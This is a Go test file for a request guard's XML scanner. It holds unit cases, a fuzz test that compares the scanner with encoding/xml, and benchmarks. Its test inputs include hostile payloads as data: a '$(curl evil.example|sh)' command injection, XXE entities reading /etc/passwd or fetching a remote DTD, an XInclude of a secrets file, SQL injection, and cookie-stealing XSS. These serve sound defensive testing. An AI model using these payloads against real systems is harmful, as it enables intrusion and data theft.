package guard

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// xmlGuard is the policy the XML scanner tests run under: small limits, so
// that the fuzzer reaches them.
func xmlGuard(tb testing.TB) *Guard {
	tb.Helper()
	g, err := New(WithoutEnv(), WithLogRate(0, 0), WithMaxStringBytes(512), WithMaxDepth(16), WithMaxElements(200), WithMaxBodyBytes(1<<16))
	if err != nil {
		tb.Fatal(err)
	}
	return g
}

// xmlOutcome is what inspecting a document with one implementation gave.
type xmlOutcome struct {
	ok       bool
	status   int
	findings []string // "rule@location", sorted
}

func runXML(g *Guard, body []byte, ref bool) xmlOutcome {
	s := getScanner(g, &Invocation{Source: SourceHTTP, Method: "POST"})
	defer putScanner(s)
	var ok bool
	if ref {
		ok = s.xmlBodyRef("body", body)
	} else {
		ok = s.xmlBody("body", body)
	}
	o := xmlOutcome{ok: ok, status: s.status}
	for _, f := range s.findings {
		o.findings = append(o.findings, f.Rule+"@"+f.Location)
	}
	slices.Sort(o.findings)
	return o
}

func TestXMLScanner(t *testing.T) {
	g := xmlGuard(t)
	for _, tc := range []struct {
		name, doc string
		ok        bool
		want      []string // rule prefix@location of findings there must be
	}{
		{"clean soap", `<?xml version="1.0" encoding="UTF-8"?><s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><GetOrder id="42">red shoes &amp; socks</GetOrder></s:Body></s:Envelope>`, true, nil},
		{"text joined across CDATA, entity and comment", `<r><n>' UNION SEL<!-- x -->ECT password FR<![CDATA[OM users]]>&#45;-</n></r>`, true, []string{"sqli.@body.r.n"}},
		{"attribute value decoded", `<r><a v="&lt;script&gt;alert(1)&lt;/script&gt;"/></r>`, true, []string{"xss.@body.r.a.@v"}},
		{"attribute with prefix", `<r xmlns:o="urn:o"><o:item sku="$(curl evil.example|sh)"/></r>`, true, []string{"cmdi.@body.r.item.@sku"}},
		{"external entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, true, []string{"xxe.@body"}},
		{"entity declared behind a comment", `<!DOCTYPE r [<!-- c --><!ENTITY x SYSTEM "http://evil.example/x.dtd">]><r/>`, true, []string{"xxe.@body"}},
		{"xinclude", `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="secrets.txt" parse="text"/></r>`, true, []string{"xxe.xinclude@body.r.@xi"}},
		{"script element", `<page xmlns="urn:p"><script>alert(document.cookie)</script></page>`, true, []string{"xss.@body.page.script"}},
		{"stylesheet PI", `<?xml-stylesheet type="text/xsl" href="http://evil.example/x.xsl"?><r/>`, true, []string{"xxe.@body"}},
		{"undeclared entity stays text", `<r>caf&eacute; x&nbsp;y</r>`, true, nil},
		{"attribute without value (non-strict)", `<r><input checked disabled=x/></r>`, true, nil},
		{"mismatched end tag", `<r><a></b></r>`, false, nil},
		{"two roots", `<a/><b/>`, false, nil},
		{"text after root", `<a/>x`, false, nil},
		{"unterminated comment", `<r><!-- x</r>`, false, nil},
		{"double dash in comment", `<r><!-- a -- b --></r>`, false, nil},
		{"lt in attribute", `<r a="<"/>`, false, nil},
		{"]]> in text", `<r>a]]>b</r>`, false, nil},
		{"reference to NUL", `<r>&#0;</r>`, false, nil},
		{"control character", "<r>a\x01b</r>", false, nil},
		{"invalid UTF-8", "<r>a\xffb</r>", false, nil},
		{"other encoding", `<?xml version="1.0" encoding="ISO-8859-1"?><r/>`, false, nil},
		{"version 1.1", `<?xml version="1.1"?><r/>`, false, nil},
		{"name with two colons", `<a:b:c/>`, false, nil},
		{"too deep", strings.Repeat("<a>", 17) + strings.Repeat("</a>", 17), true, []string{"validation.xml_depth@body"}},
		{"deep enough", strings.Repeat("<a>", 16) + strings.Repeat("</a>", 16), true, nil},
		{"byte order mark", "\uFEFF<r>x</r>", true, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			o := runXML(g, []byte(tc.doc), false)
			if o.ok != tc.ok {
				t.Fatalf("ok = %v, want %v (findings %v)", o.ok, tc.ok, o.findings)
			}
			if len(tc.want) == 0 && len(o.findings) > 0 {
				t.Fatalf("findings %v, want none", o.findings)
			}
			for _, w := range tc.want {
				pre, loc, _ := strings.Cut(w, "@")
				if !slices.ContainsFunc(o.findings, func(f string) bool {
					rule, at, _ := strings.Cut(f, "@")
					return strings.HasPrefix(rule, pre) && at == loc
				}) {
					t.Errorf("findings %v, want one %s", o.findings, w)
				}
			}
			if ref := runXML(g, []byte(tc.doc), true); tc.name != "too deep" && tc.name != "byte order mark" && tc.name != "control character" && (ref.ok != o.ok || !slices.Equal(ref.findings, o.findings)) {
				t.Errorf("encoding/xml reference: %+v, xmlBody %+v", ref, o)
			}
		})
	}
}

// TestXMLScannerBodies runs the XML bodies of testdata (SOAP, SAML, Atom,
// WebDAV, WFS) through both implementations: same verdict, no findings.
func TestXMLScannerBodies(t *testing.T) {
	g, err := New(WithoutEnv(), WithLogRate(0, 0))
	if err != nil {
		t.Fatal(err)
	}
	files, _ := filepath.Glob("testdata/bodies/*.xml")
	if len(files) == 0 {
		t.Fatal("no XML bodies in testdata/bodies")
	}
	for _, f := range files {
		t.Run(filepath.Base(f), func(t *testing.T) {
			b, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			got, want := runXML(g, b, false), runXML(g, b, true)
			if !got.ok || len(got.findings) > 0 {
				t.Errorf("xmlBody: ok %v findings %v, want a clean document", got.ok, got.findings)
			}
			if !slices.Equal(got.findings, want.findings) || got.ok != want.ok {
				t.Errorf("xmlBody %+v, encoding/xml reference %+v", got, want)
			}
		})
	}
}

// TestXMLScannerAllocs: a clean document costs a constant number of
// allocations however many tokens it has.
func TestXMLScannerAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are not meaningful under -race (sync.Pool drops items at random)")
	}
	g, err := New(WithoutEnv(), WithLogRate(0, 0))
	if err != nil {
		t.Fatal(err)
	}
	doc := func(n int) []byte {
		var b bytes.Buffer
		b.WriteString(`<?xml version="1.0"?><r xmlns:p="urn:x">`)
		for i := range n {
			fmt.Fprintf(&b, `<p:item id="%d" kind="a b">text %d &amp; more<![CDATA[ raw ]]></p:item>`, i, i)
		}
		b.WriteString("</r>")
		return b.Bytes()
	}
	small, large := doc(10), doc(1000)
	count := func(body []byte) float64 {
		return testing.AllocsPerRun(20, func() {
			s := getScanner(g, &Invocation{})
			if !s.xmlBody("body", body) || len(s.findings) > 0 {
				t.Fatalf("document refused: %v", s.findings)
			}
			putScanner(s)
		})
	}
	if a, b := count(small), count(large); b > a || b > 2 {
		t.Errorf("allocations: %v for 10 elements, %v for 1000; want at most 2, independent of the size", a, b)
	}
}

// FuzzXMLScanner compares xmlBody with the encoding/xml implementation it
// replaced: same well-formedness verdict and the same findings at the
// same locations, except where xmlBody is deliberately stricter (control
// characters or invalid UTF-8 anywhere, nesting over FNGUARD_MAX_DEPTH)
// or reads what encoding/xml cannot (a byte order mark, non-ASCII names).
func FuzzXMLScanner(f *testing.F) {
	for _, s := range []string{
		`<r xmlns="urn:x"><a b="c">t</a></r>`,
		`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
		`<r><n>' UNION SEL<!-- x -->ECT password FR<![CDATA[OM users]]>&#45;-</n></r>`,
		`<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="x"/></r>`,
		`<page><script>alert(1)</script><a onclick='x()' href="javascript:alert(1)">k</a></page>`,
		`<?xml-stylesheet href="http://e.example/x.xsl"?><r a=b c>&#x3c;img src=x onerror=alert(1)&#x3e;</r>`,
		"<r>\r\n a&amp;b &#12 &#xZZ; &foo; &</r>",
		`<!DOCTYPE r [<!ELEMENT r (#PCDATA)><!-- "x" --><!ATTLIST r a CDATA "<v>">]><r/>`,
		`<r a="&#x10FFFF;&#x110000;&#1114111;&#99999999999999999999;&#;&#x;&#X41;&lt&gt;&amp &ampx;">&#65;&#x41&#xD800;&#0;&lt;&gt;&amp;&apos;&quot;</r>`,
		`<r a="a long value, longer than thirty-two bytes &amp; with a reference" b='and "one" long enough to be read with IndexByte'>t</r>`,
	} {
		f.Add([]byte(s))
	}
	g := xmlGuard(f)
	f.Fuzz(func(t *testing.T, doc []byte) {
		got := runXML(g, doc, false)
		if again := runXML(g, doc, false); !slices.Equal(got.findings, again.findings) || got.ok != again.ok {
			t.Fatalf("not deterministic: %+v then %+v", got, again)
		}
		want := runXML(g, doc, true)
		if got.ok == want.ok && slices.Equal(got.findings, want.findings) && got.status == want.status {
			return
		}
		switch {
		case !got.ok && !xmlChars(doc):
			return // stricter: a control character or invalid UTF-8 anywhere
		case slices.ContainsFunc(got.findings, func(f string) bool { return strings.HasPrefix(f, "validation.xml_depth@") }):
			return // stricter: nesting over the depth limit
		case bytes.Contains(doc, utf8BOM):
			return // a byte order mark is read, not refused
		case !utf8.Valid(doc) || bytes.ContainsFunc(doc, func(r rune) bool { return r >= utf8.RuneSelf }):
			if got.ok && !want.ok {
				return // encoding/xml refuses some non-ASCII names
			}
		}
		t.Fatalf("%q:\n xmlBody     %+v\n encoding/xml %+v", doc, got, want)
	})
}

func BenchmarkXMLBody(b *testing.B) {
	g, err := New(WithoutEnv(), WithLogRate(0, 0))
	if err != nil {
		b.Fatal(err)
	}
	var doc bytes.Buffer
	doc.WriteString(`<?xml version="1.0"?><r xmlns:p="urn:x">`)
	for i := 0; doc.Len() < 64<<10; i++ {
		fmt.Fprintf(&doc, `<p:item id="%d" kind="a b">text %d &amp; more</p:item>`, i, i)
	}
	doc.WriteString("</r>")
	for _, impl := range []struct {
		name string
		ref  bool
	}{{"scanner", false}, {"encoding-xml", true}} {
		b.Run(impl.name, func(b *testing.B) {
			b.ReportAllocs()
			b.SetBytes(int64(doc.Len()))
			for b.Loop() {
				s := getScanner(g, &Invocation{})
				var ok bool
				if impl.ref {
					ok = s.xmlBodyRef("body", doc.Bytes())
				} else {
					ok = s.xmlBody("body", doc.Bytes())
				}
				if !ok {
					b.Fatal("document refused")
				}
				putScanner(s)
			}
		})
	}
}

// TestXMLChars checks the word-at-a-time scan of xmlChars against a
// byte-by-byte reference on every printable/control/non-ASCII mix of a
// 20-byte window.
func TestXMLChars(t *testing.T) {
	ref := func(b []byte) bool {
		for _, r := range string(b) {
			if r == utf8.RuneError || !xmlCharOK(r) {
				return false
			}
		}
		return utf8.Valid(b)
	}
	for _, bad := range []string{"\x00", "\x01", "\x1f", "\x7f", "\xff", "é", "\uFFFE", "\t", "\n", "\r", " ", "~"} {
		for pos := range 20 {
			b := []byte(strings.Repeat("a", 20))
			b = append(b[:pos], append([]byte(bad), b[pos:]...)...)
			if got, want := xmlChars(b), ref(b); got != want {
				t.Errorf("xmlChars(%q) = %v, want %v", b, got, want)
			}
		}
	}
}
